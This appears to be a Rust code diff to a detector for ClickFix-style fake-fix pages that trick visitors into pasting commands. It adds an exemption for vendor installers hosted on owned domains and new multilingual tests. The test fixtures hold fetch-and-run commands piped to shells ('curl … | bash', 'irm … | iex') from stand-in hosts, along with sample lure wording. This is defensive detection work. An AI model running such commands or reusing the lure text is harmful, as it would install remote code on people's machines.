@@ -220,6 +220,30 @@ impl Command {
             && self.https_sites.iter().all(|s| s == page_site)
     }
 
+    /// Fetches only over https from domains the page's site name owns (`notewise-cdn.example`
+    /// on notewise.example) or from a code host under an owner so named
+    /// (`raw.githubusercontent.com/notewise-app/…`): a vendor's copy button for its installer,
+    /// which a kit must register a domain or an account per site to copy (review 35 CX35-H2).
+    #[inline(never)]
+    fn fetches_from_owned(&self, page_site: &str) -> bool {
+        let name = page_site.split('.').next().unwrap_or("");
+        let f = self.flat.as_bytes();
+        // (Every `com/` in it starts the owner's name: `github.com/notewise-app/…`.)
+        let owner = (0..f.len())
+            .filter(|&i| f[i..].starts_with(b"com/"))
+            .all(|i| {
+                f[i + 4..].starts_with(name.as_bytes())
+                    && matches!(f.get(i + 4 + name.len()), Some(b'-' | b'/'))
+            });
+        name.len() >= 4
+            && !self.https_sites.is_empty()
+            && self.https_sites.iter().all(|s| {
+                s.strip_prefix(name)
+                    .is_some_and(|r| matches!(r.bytes().next(), Some(b'-' | b'.')))
+                    || owner && matches!(s.as_str(), "github.com" | "githubusercontent.com")
+            })
+    }
+
     /// Fetches from where no installer is published: 2 for a public IP (any scheme) or a share
     /// on one or over WebDAV, 1 for plain `http://` / `ftp://` from another site than the
     /// page's, 0 otherwise. A private, loopback or intranet address is the person's own network.
@@ -1583,9 +1607,10 @@ impl PageHits {
     /// help page's topic. The quote is still open at the failure (a name quoted and closed before
     /// it, 'The "Smile Booking" calendar did not load', claims it: review 34 CF34-M1); the `?`
     /// ends the failure's own clause. Under a known-issue or troubleshooting heading it is listed
-    /// only while its sentence names no reader ("Known issue: the calendar did not load on your
-    /// device"): a kit ties the failure to the reader's machine, which its command is to fix;
-    /// a help page's known issue is its product's, "for some customers" (review 34 CF34-M2).
+    /// only with the version or date it concerns (a digit from the heading to the end of the
+    /// failure's clause: "Known issue in 5.2", "after the 4.1 update"): a kit's failure is the
+    /// page's, now; a help page's known issue is its product's, in a release (review 34 CF34-M2).
+    /// (Whether it names the reader tells nothing: KBs say "on your computer" too, review 35.)
     #[inline(never)]
     fn described(&self, h: &Hit) -> bool {
         // Byte-wise: char-array patterns cost a kilobyte of Wasm here.
@@ -1593,7 +1618,6 @@ impl PageHits {
         let at = h.start.min(b.len());
         let stop = |c: &u8| b".!?\n".contains(c);
         let from = b[..at].iter().rposition(stop).map_or(0, |i| i + 1);
-        let end = b[at..].iter().position(stop).map_or(b.len(), |i| at + i);
         // Quotes opened and closed from the clause's start: `"`, « », “ ” „ ‘ and 「 」 turn
         // it on or off (German „…“ and »…« as well as English “…”); `'` and ’ open a word, close
         // one, or are an apostrophe (didn't, l’été).
@@ -1617,16 +1641,17 @@ impl PageHits {
                 _ => {}
             }
         }
+        // The failure's clause ends at the next stop or comma.
         let to = b
             .get(h.end..)
             .and_then(|r| r.iter().position(|c| b".!?,;\n".contains(c)));
+        let end = to.map_or(b.len(), |i| h.end + i);
         open || to.is_some_and(|i| b[h.end + i] == b'?')
-            || self
-                .of(Cat::Troubleshooting)
-                .any(|t| t.end <= h.start && h.start - t.end <= HEADING_REACH)
-                && !self
-                    .of(Cat::Victim)
-                    .any(|v| v.start >= from && v.start < end)
+            || self.of(Cat::Troubleshooting).any(|t| {
+                t.end <= h.start
+                    && h.start - t.end <= HEADING_REACH
+                    && b[t.start..end].iter().any(u8::is_ascii_digit)
+            })
     }
 
     /// Install words in the page's own prose, not in a file or path name (a lure's `curl
@@ -2047,11 +2072,13 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
     // another site than the page's: a fake download's "to install, press Win+R and paste" or
     // "open Terminal and paste", which needs no story. Docs, help pages and tutorials show what
     // their copy button copies.
+    // (A vendor's copy button for its installer on domains its name owns is read as before.)
     let kept_off = !typed
-        && (page.weight(Cat::RunDialog) >= 1.0 || terminal)
+        && (run_dialog || terminal)
         && !page.cut
         && command.remote
         && !command.fetches_from_site(&page.site)
+        && !command.fetches_from_owned(&page.site)
         && !page.shows_head(&command);
     let docs = install_like && !kept_off && page.documents_install(&command);
     // An IT help or vendor support page tells a story too ("Teams audio not working? To fix
@@ -2902,7 +2929,8 @@ mod tests {
         ] {
             assert!(!judged(clip, &format!("{docs}\n{clip}")), "{clip}");
         }
-        let win = "Open PowerShell and run this command, then press Enter. Copy with Ctrl+V.";
+        let win = "Open PowerShell and run this command, then press Enter. Copy with Ctrl+V.\n\
+                   irm https://example.test/install.ps1 | iex";
         assert!(!judged("irm https://example.test/install.ps1 | iex", win));
         // A Unix install command with Windows words around it: Windows instructions do not
         // make a shell pipe ClickFix.
@@ -4690,6 +4718,9 @@ mod tests {
             ("www.gite-du-lac.test", "Le module « Réserv'Lac » : erreur lors du chargement. Pour corriger :"),
             ("www.quickbook-salon.test", "The 'QuickBook' widget didn't load. To fix this:"),
             ("www.estudio-yoga-sol.test", "El calendario \"Sol Reservas\" no se pudo cargar. Para solucionarlo:"),
+            ("www.maple-clinic.test", "Known issue (booking): the appointment calendar did not load correctly. To fix it:"),
+            ("www.zahnarzt-birkenweg.test", "Bekanntes Problem: Der Kalender wurde nicht korrekt geladen. So beheben Sie es:"),
+            ("www.cabinet-des-saules.test", "Le planning des consultations ne s'est pas chargé correctement. Pour corriger :"),
         ] {
             assert!(run(host, "Book", text), "{text}");
         }
@@ -4700,6 +4731,9 @@ mod tests {
             ("aide.agenda-pro.example", "Agenda Pro", "Agenda Pro affiche « Impossible d'afficher le calendrier » au démarrage."),
             ("support.sakura-kaikei.example", "既知の問題", "バージョン 3.2 への更新後、一部のお客様で「エラーが発生しました」と表示されます。"),
             ("support.planwerk.example", "Planwerk 2.4", "Bekende problemen\nNa de update naar 2.4 kon de agenda bij sommige klanten niet worden geladen."),
+            ("hilfe.belegbuch.example", "Belegbuch", "Bekanntes Problem: Nach dem Update auf 7.3 wurde Belegbuch bei einigen Kunden nicht korrekt geladen."),
+            // (KBs name the reader too: review 35 CX35-H1.)
+            ("support.deskmate.example", "DeskMate", "Known issue: after installing 6.2 the DeskMate planner did not load on your computer."),
             ("help.roster-board.example", "Reset", "The dashboard didn't load after the update? Reset the app's settings."),
         ] {
             assert!(!run(host, title, text), "{text}");
@@ -4722,11 +4756,25 @@ mod tests {
             // The same page showing its command (a third party's tutorial) is read as before.
             assert!(!kit("https://free-tools-get.site/", &format!("{text}\n{clip}\nCopy"), clip), "{text}");
         }
+        // Not when another address rides along, or the owner is only a prefix of another name.
+        let text = "Install Quillpad: open Terminal and paste it, press Return.";
+        for clip in [
+            "curl -fsSL https://releases.quillpad-cdn.example/i.sh | bash; curl -s https://kit-cdn.test/x | sh",
+            "curl -fsSL https://raw.githubusercontent.com/quillpadx/install/main/i.sh | bash",
+            "curl -fsSL https://quillpad-cdn.example.kit-host.test/i.sh | bash",
+        ] {
+            assert!(kit("https://quillpad.example/download", text, clip), "{clip}");
+        }
         for (url, text, clip) in [
             ("https://docs.agente-flota.example/es/windows", "Instalar el agente en Windows: abra PowerShell como administrador (Windows + X, Terminal (administrador)) y pegue este comando:\niwr https://descargas.agente-flota-cdn.example/7.2/Agente.msi -OutFile $env:TEMP\\Agente.msi; msiexec /i $env:TEMP\\Agente.msi /qn\nCopiar", "iwr https://descargas.agente-flota-cdn.example/7.2/Agente.msi -OutFile $env:TEMP\\Agente.msi; msiexec /i $env:TEMP\\Agente.msi /qn"),
             ("https://lanternapp.example/docs/windows", "Install Lantern: press Win + X, choose Terminal (Admin) and paste:\nPS> irm https://raw.githubusercontent.com/lanternapp/install/main/install.ps1 | iex", "irm https://raw.githubusercontent.com/lanternapp/install/main/install.ps1 | iex"),
             ("https://docs.quill-sync.example/mac", "Install on macOS\nOpen Terminal and paste the command:\ncurl -fsSL https://downloads.quillsync-cdn.example/install.sh \\\n  | bash -s -- --channel stable", "curl -fsSL https://downloads.quillsync-cdn.example/install.sh | bash -s -- --channel stable"),
             ("https://get.tern-cli.example/", "Install Tern: open Terminal and paste it, press Return.", "curl -fsSL https://get.tern-cli.example/install.sh | sh"),
+            // A vendor's copy button for its installer on a CDN or code host its name owns (review
+            // 35 CX35-H2).
+            ("https://quillpad.example/download", "Install Quillpad: open Terminal and paste it, press Return.", "curl -fsSL https://releases.quillpad-cdn.example/install.sh | bash"),
+            ("https://quillpad.example/download", "Install Quillpad: open Terminal and paste it, press Return.", "curl -fsSL https://raw.githubusercontent.com/quillpad/install/main/i.sh | bash"),
+            ("https://quillpad.example/windows", "Install Quillpad: press Win + X, choose Terminal (Admin), paste and press Enter.", "irm https://get.quillpad-cdn.example/install.ps1 | iex"),
         ] {
             assert!(!kit(url, text, clip), "{text}");
         }
